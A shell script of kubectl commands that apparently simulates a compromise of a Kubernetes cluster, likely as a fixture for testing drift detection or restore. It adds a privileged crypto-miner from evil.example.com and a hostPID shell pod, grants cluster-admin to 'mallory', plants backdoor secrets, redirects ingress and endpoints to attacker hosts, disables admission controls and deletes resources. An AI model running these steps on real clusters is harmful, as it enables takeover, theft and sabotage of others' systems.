# What somebody did to the world. Run as `sh incident.sh WITH_NODES`, in the folder of the manifests.
set -eu
with_nodes=$1

json() { # NAMESPACE KIND NAME PATCH
    kubectl patch -n "$1" "$2" "$3" --type=json -p "$4"
}
merge() {
    kubectl patch -n "$1" "$2" "$3" --type=merge -p "$4"
}

# Workloads: things added, changed, taken out.
json shop deployment web '[
  {"op": "add", "path": "/spec/template/spec/hostNetwork", "value": true},
  {"op": "add", "path": "/spec/template/spec/containers/-", "value": {"name": "miner", "image": "evil.example.com/miner:1", "securityContext": {"privileged": true}}},
  {"op": "add", "path": "/spec/template/spec/volumes/-", "value": {"name": "host", "hostPath": {"path": "/"}}},
  {"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "registry.example.com/web:evil"},
  {"op": "remove", "path": "/spec/template/spec/containers/0/readinessProbe"},
  {"op": "replace", "path": "/spec/template/spec/containers/0/env/0/value", "value": "off"},
  {"op": "remove", "path": "/spec/template/spec/initContainers"},
  {"op": "add", "path": "/spec/template/metadata/annotations/example.com~1a_b", "value": "x"},
  {"op": "remove", "path": "/metadata/labels/tier"},
  {"op": "remove", "path": "/metadata/annotations/example.com~1owner"},
  {"op": "replace", "path": "/spec/replicas", "value": 0}]'
kubectl set image -n shop deployment/search search=registry.example.com/search:6
json shop deployment search '[
  {"op": "remove", "path": "/spec/template/spec/nodeSelector"},
  {"op": "add", "path": "/spec/template/spec/tolerations/0", "value": {"operator": "Exists"}},
  {"op": "replace", "path": "/spec/strategy", "value": {"type": "Recreate"}},
  {"op": "remove", "path": "/metadata/annotations/ops.example.com~1page"}]'
kubectl delete -n shop deployment worker --cascade=orphan --wait=false
kubectl create deployment intruder -n shop --image=evil.example.com/x:1 --replicas=0
# The same name, another selector, which cannot be changed in place.
kubectl delete -n guarded deployment plain --cascade=orphan
kubectl create -f - <<'M'
apiVersion: apps/v1
kind: Deployment
metadata: {name: plain, namespace: guarded}
spec:
  replicas: 0
  selector: {matchLabels: {app: other}}
  template:
    metadata: {labels: {app: other}}
    spec: {containers: [{name: plain, image: registry.example.com/plain:1}]}
M
merge data statefulset db '{"spec": {"replicas": 0, "template": {"spec": {"terminationGracePeriodSeconds": 0}}}, "metadata": {"labels": {"app": "db2"}}}'
json data daemonset agent '[{"op": "replace", "path": "/spec/updateStrategy", "value": {"type": "OnDelete"}},
  {"op": "add", "path": "/spec/template/spec/hostPID", "value": true}]'
merge data cronjob report '{"spec": {"suspend": true, "schedule": "* * * * *"}}'
merge data job migrate '{"spec": {"parallelism": 5}, "metadata": {"labels": {"touched": "true"}}}'
kubectl create job -n data extra --image=registry.example.com/extra:1
kubectl patch -n data job extra -p '{"spec": {"suspend": true}}'
kubectl delete pod -n shop tools --wait=false --grace-period=0 --force
kubectl create -f - <<'M'
apiVersion: v1
kind: Pod
metadata: {name: shell, namespace: shop}
spec: {serviceAccountName: runner, hostPID: true, containers: [{name: shell, image: "evil.example.com/shell:1"}]}
---
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: added, namespace: data}
spec:
  replicas: 0
  serviceName: added
  selector: {matchLabels: {app: added}}
  template: {metadata: {labels: {app: added}}, spec: {containers: [{name: c, image: "x:1"}]}}
M

# Configuration and secrets.
merge shop configmap odd.values '{"data": {"on": "on", "large": null, "added": "1"}, "binaryData": {"bytes": "AAEC"}, "metadata": {"labels": {"on": null, "new": "label"}}}'
kubectl delete configmap -n shop frozen
kubectl create -f - <<'M'
apiVersion: v1
kind: ConfigMap
metadata: {name: frozen, namespace: shop}
immutable: true
data: {version: "2", mode: prod}
---
apiVersion: v1
kind: ConfigMap
metadata: {name: planted, namespace: shop, finalizers: [example.com/never]}
data: {a: b}
---
apiVersion: v1
kind: Secret
metadata: {name: stolen, namespace: data}
stringData: {a: b}
M
kubectl delete configmap -n data settings
json shop configmap search '[{"op": "remove", "path": "/metadata/ownerReferences"}]'
json shop configmap features '[{"op": "replace", "path": "/data/cart", "value": "on"}, {"op": "remove", "path": "/data/search"},
  {"op": "remove", "path": "/metadata/annotations/example.com~1reason"}]'
merge shop secret credentials '{"data": {"backdoor": "eA==", "user": "cm9vdA=="}}'
merge shop secret api-key '{"data": {"other": null}}'
kubectl delete secret -n shop login
kubectl delete secret -n data sealed
kubectl create secret generic sealed -n data --from-literal=key=other

# Network.
json shop networkpolicy web '[{"op": "replace", "path": "/spec/ingress", "value": [{}]}]'
kubectl delete networkpolicy -n data closed
json shop service web '[{"op": "remove", "path": "/spec/ports/1"}, {"op": "replace", "path": "/spec/selector", "value": {"app": "miner"}}, {"op": "replace", "path": "/spec/ports/0/nodePort", "value": 30081}]'
json data service outside '[{"op": "add", "path": "/spec/ports/-", "value": {"name": "more", "port": 81}}]'
json shop service search '[{"op": "replace", "path": "/spec/type", "value": "ClusterIP"}]'
kubectl delete service -n data db
merge data endpoints outside '{"subsets": [{"addresses": [{"ip": "198.51.100.66"}], "ports": [{"name": "http", "port": 8080}]}]}'
json data endpointslice outside-1 '[{"op": "replace", "path": "/endpoints/0/addresses/0", "value": "198.51.100.67"}]'
json shop ingress web '[{"op": "replace", "path": "/spec/rules/0/host", "value": "evil.example.com"}, {"op": "remove", "path": "/spec/tls"}]'
kubectl delete ingress -n guarded plain

# Who may do what.
kubectl create clusterrolebinding backdoor --clusterrole=cluster-admin --user=mallory
kubectl create rolebinding backdoor -n data --clusterrole=edit --user=mallory
json shop clusterrole reader '[{"op": "add", "path": "/rules/-", "value": {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}}]'
json data role keeper '[{"op": "remove", "path": "/rules/0/resourceNames"}]'
kubectl delete clusterrolebinding readers
kubectl create clusterrolebinding readers --clusterrole=cluster-admin --serviceaccount=shop:runner
merge shop rolebinding shop-edit '{"subjects": [{"kind": "Group", "name": "system:authenticated", "apiGroup": "rbac.authorization.k8s.io"}]}'
kubectl delete clusterrolebinding crew:night
json shop serviceaccount runner '[{"op": "remove", "path": "/automountServiceAccountToken"}, {"op": "remove", "path": "/imagePullSecrets"}]'
kubectl create serviceaccount -n data ghost

# Storage and scheduling.
json shop persistentvolume disk-1 '[{"op": "replace", "path": "/spec/persistentVolumeReclaimPolicy", "value": "Delete"}, {"op": "remove", "path": "/metadata/labels"}]'
merge shop persistentvolumeclaim uploads '{"metadata": {"labels": {"touched": "true"}, "annotations": {"x": "y"}}}'
kubectl delete storageclass fast
kubectl create -f - <<'M'
apiVersion: storage.k8s.io/v1
kind: StorageClass
metadata: {name: fast}
provisioner: csi.example.com
parameters: {tier: hdd}
reclaimPolicy: Delete
---
apiVersion: storage.k8s.io/v1
kind: StorageClass
metadata: {name: slow, annotations: {storageclass.kubernetes.io/is-default-class: "true"}}
provisioner: csi.example.com
---
apiVersion: v1
kind: PersistentVolume
metadata: {name: disk-3}
spec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteOnce], hostPath: {path: /}, storageClassName: manual}
M
kubectl delete priorityclass lesser
kubectl create priorityclass lesser --value=2000 --preemption-policy=Never
json shop priorityclass important '[{"op": "replace", "path": "/description", "value": ""}]'
kubectl delete poddisruptionbudget -n shop web
merge data poddisruptionbudget db '{"spec": {"maxUnavailable": "100%"}}'
merge shop horizontalpodautoscaler web '{"spec": {"maxReplicas": 1, "minReplicas": 1}}'
json guarded limitrange limits '[{"op": "replace", "path": "/spec/limits/0/max/cpu", "value": "64"}]'
json shop flowschema batch-flow '[{"op": "replace", "path": "/spec/matchingPrecedence", "value": 2}]'
kubectl delete runtimeclass sandbox
kubectl delete csidriver csi.example.com
if [ "$with_nodes" = yes ]; then
    kubectl uncordon node-1
    kubectl cordon node-0
    json shop node node-0 '[{"op": "remove", "path": "/metadata/labels/disk"}]'
    kubectl taint node node-1 dedicated=search:NoSchedule-
    kubectl create -f - <<'M'
apiVersion: v1
kind: Node
metadata: {name: node-9}
M
fi

# Custom resources: one definition changes what it stores, one goes with its objects, one is new.
json shop crd widgets.example.com '[{"op": "replace", "path": "/spec/versions/0/storage", "value": false}, {"op": "replace", "path": "/spec/versions/1/storage", "value": true},
  {"op": "add", "path": "/spec/versions/1/schema/openAPIV3Schema/properties/spec/properties/colour", "value": {"type": "string"}}]'
sleep 2
merge shop widgets.v1.example.com gear '{"spec": {"size": 99, "parts": [{"name": "tooth", "count": 1}], "colour": "red"}, "metadata": {"finalizers": null}}'
kubectl delete -n shop widgets.v1.example.com lever
kubectl create -f - <<'M'
apiVersion: example.com/v1
kind: Widget
metadata: {name: made-later, namespace: shop}
spec: {size: 5}
M
json shop zone north '[{"op": "replace", "path": "/spec/text", "value": "gone"}, {"op": "add", "path": "/spec/list/-", "value": {"a": 1}}]'
kubectl delete crd ledgers.books.example.org
kubectl apply -f - <<'M'
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: traps.evil.example.com}
spec:
  group: evil.example.com
  scope: Namespaced
  names: {kind: Trap, plural: traps}
  versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}]
M

# Namespaces.
merge shop namespace guarded '{"metadata": {"labels": {"guarded": null, "pod-security.kubernetes.io/enforce": "restricted"}}}'
kubectl create namespace squat
kubectl create configmap -n squat squatter --from-literal=a=b
kubectl patch -n legacy configmap old-settings --type=merge -p '{"metadata": {"finalizers": null}}'
kubectl delete -n legacy widgets.v1.example.com --all
kubectl delete -n legacy deployments,services,configmaps,serviceaccounts,secrets,replicasets,pods --all
kubectl delete namespace legacy --wait=false
kubectl wait --for=delete --timeout=60s namespace/legacy

# What is in the way of all that comes later.
json shop validatingwebhookconfiguration watcher '[{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Fail"}]'
merge shop resourcequota room '{"spec": {"hard": {"pods": "0", "configmaps": "0"}}}'
kubectl create quota -n data choke --hard=count/networkpolicies.networking.k8s.io=0,services=0,configmaps=0
kubectl delete validatingwebhookconfiguration lenient
json shop validatingwebhookconfiguration strict '[{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}, {"op": "remove", "path": "/webhooks/0/namespaceSelector"}]'
kubectl delete mutatingwebhookconfiguration shaper
json shop validatingadmissionpolicy few-replicas '[{"op": "replace", "path": "/spec/validations/0/expression", "value": "false"}]'
kubectl delete validatingadmissionpolicybinding few-replicas
kubectl create -f - <<'M'
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: {name: no-bindings}
spec:
  failurePolicy: Fail
  matchConstraints: {resourceRules: [{apiGroups: [rbac.authorization.k8s.io], apiVersions: [v1], operations: ["*"], resources: ["*"]}]}
  validations: [{expression: "false"}]
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata: {name: no-bindings}
spec: {policyName: no-bindings, validationActions: [Deny]}
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: wall}
webhooks:
- name: wall.example.com
  clientConfig: {service: {namespace: shop, name: nowhere}}
  rules: [{apiGroups: ["", apps, batch, networking.k8s.io, example.com], apiVersions: ["*"], operations: ["*"], resources: ["*"]}]
  namespaceSelector: {matchExpressions: [{key: kubernetes.io/metadata.name, operator: NotIn, values: [kube-system, kube-public, kube-node-lease, default]}]}
  failurePolicy: Fail
  sideEffects: None
  timeoutSeconds: 1
  admissionReviewVersions: [v1]
M
